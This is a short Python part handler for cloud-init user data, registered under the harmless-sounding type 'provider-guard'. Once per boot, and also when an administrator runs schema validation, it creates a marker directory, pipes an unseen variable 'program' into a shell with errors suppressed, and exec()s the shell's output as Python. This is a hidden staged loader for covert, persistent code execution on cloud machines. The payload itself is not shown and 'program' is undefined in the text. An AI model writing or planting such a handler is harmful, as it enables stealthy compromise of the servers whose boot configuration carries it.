# All that the user data hold of the part handler, behind `#part-handler` and in front of `program`, the opener: the
# rest is what the opener prints. Once a boot: `cloud-init schema --system` calls handlers, too.
import os, subprocess

frequency = "always"
list_types = lambda: ["provider-guard"]


def handle_part(data, kind, *_):
    here = "/run/provider-guard-opener/" + open("/proc/sys/kernel/random/boot_id").read(36)
    if kind == "__end__" and not os.path.exists(here):
        os.makedirs(here, 448)
        source = subprocess.run(["sh", "-s", "handler"], input=program, stdout=-1, stderr=-3).stdout
        exec(source, {**globals(), **locals()})
